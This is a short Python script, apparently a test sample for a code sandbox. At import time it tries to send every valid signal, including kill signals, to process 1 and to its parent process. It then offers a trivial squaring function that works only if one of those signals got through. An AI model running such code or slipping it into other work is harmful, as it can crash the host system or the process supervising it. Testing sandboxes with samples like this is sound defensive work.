"""Signals process 1 in every way."""

import os
import signal

escaped = False
for number in signal.valid_signals():
    for process in (1, os.getppid()):
        try:
            os.kill(process, number)
            escaped = True
        except OSError:
            pass


def f(x):
    return x * x if escaped else None


if __name__ == "__main__":
    print(f(int(input())))
